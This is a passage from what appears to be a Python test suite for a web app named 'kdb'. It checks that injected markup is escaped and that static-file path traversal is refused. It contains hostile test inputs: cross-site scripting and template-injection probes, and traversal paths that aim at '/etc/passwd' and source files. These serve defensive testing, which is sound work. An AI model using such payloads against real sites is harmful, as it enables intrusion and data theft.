        "/sql": {"q": "SELECT *, '" + MARKUP.replace("'", "''") + "' AS x FROM prompts"},
        "/queries/top-heads": {"k": MARKUP},
        "/model ": {"model": MARKUP + "?"},
        "/nothing/" + MARKUP.replace("/", ""): {},
    }
    with served("--warehouse", marked) as running, running.client(headers={"accept": "text/html"}) as asking:
        for path, params in pages.items():
            page = asking.get(path.strip(), params=params)
            assert page.status_code in (200, 400, 404), page.text
            assert page.headers["content-type"].startswith("text/html")
            assert "<script>alert" not in page.text
            assert "<img src=x" not in page.text
            if page.status_code == 200:
                assert "&lt;script&gt;alert(&#39;kdb&#39;)" in page.text, path
                assert "{{ 7 * 7 }}" in page.text, path
        assert asking.get("/api/tables/prompts").json()[0]["text"] == MARKUP


def test_parents_of_static_files_are_not_served(client: httpx.Client, server: Served) -> None:
    for path in ("/static/..%2fapp.py", "/static/%2e%2e/app.py", "/static//etc/passwd", "/static/", "/static/vendor"):
        response = client.get(path)
        assert response.status_code == 404
        assert "import" not in response.text


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="needs POSIX")
def test_there_are_more_than_sixty_hostile_statements(run_kdb: Callable[..., object]) -> None:
    assert len(set(REFUSED)) + len(set(STOPPED)) >= 60
